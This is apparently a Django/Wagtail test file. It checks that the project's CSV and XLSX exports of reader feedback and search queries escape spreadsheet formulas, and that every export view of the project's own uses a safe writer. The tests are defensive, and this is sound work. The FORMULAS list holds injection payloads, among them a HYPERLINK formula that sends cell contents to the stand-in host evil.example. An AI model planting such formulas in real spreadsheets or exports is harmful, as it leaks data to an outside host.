"""Spreadsheet exports carry what readers typed as text, never as a formula
a spreadsheet would run (issue 13, item 7)."""

import csv
import io

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from base.reports import SafeExportMixin
from feedback.models import Feedback
from search.models import SearchQueryStat

from .factories import GuidePageFactory

pytestmark = [pytest.mark.django_db, pytest.mark.focused]

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+2", "-1+2", "@SUM(1)", "\tx", "\rx"]


def rows(response):
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def cells(table):
    return {cell for row in table[1:] for cell in row}


def test_reader_comments_are_exported_as_text(admin_client, home):
    page = GuidePageFactory(parent__parent=home)
    for comment in FORMULAS:
        Feedback.objects.create(page=page, locale_id=page.locale_id, helpful=False, comment=comment)
    exported = cells(rows(admin_client.get("/admin/feedback/", {"export": "csv"})))
    for comment in FORMULAS:
        assert "'" + comment in exported and comment not in exported
    # What no spreadsheet runs stays as it was.
    Feedback.objects.create(page=page, locale_id=page.locale_id, helpful=False, comment="Which office? 3-4 days")
    assert "Which office? 3-4 days" in cells(rows(admin_client.get("/admin/feedback/", {"export": "csv"})))


def test_search_queries_are_exported_as_text_in_csv_and_xlsx(admin_client):
    SearchQueryStat.objects.create(
        day=timezone.localdate(), language="en", query=FORMULAS[0], searches=3, without_results=3
    )
    exported = rows(admin_client.get("/admin/reports/search-queries/", {"export": "csv"}))
    assert "'" + FORMULAS[0] in cells(exported)
    assert ["'" + FORMULAS[0], "en", "3", "3"] in exported  # numbers stay numbers

    response = admin_client.get("/admin/reports/search-queries/", {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    query_cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert any(cell.value == FORMULAS[0] and cell.data_type == "s" for cell in query_cells)


def export_views(resolver=None):
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            yield from export_views(pattern)
        elif isinstance(pattern, URLPattern):
            view_class = getattr(pattern.callback, "view_class", None)
            # A viewset passes its list_export when it makes the view.
            if (
                view_class
                and issubclass(view_class, SpreadsheetExportMixin)
                and (view_class.list_export or pattern.callback.view_initkwargs.get("list_export"))
            ):
                yield view_class


def test_every_export_of_the_projects_own_goes_through_the_one_safe_writer():
    ours = {view for view in export_views() if not view.__module__.startswith("wagtail")}
    assert len(ours) >= 6  # the reports of editorial and search, and the feedback listing
    assert [view for view in ours if not issubclass(view, SafeExportMixin)] == []
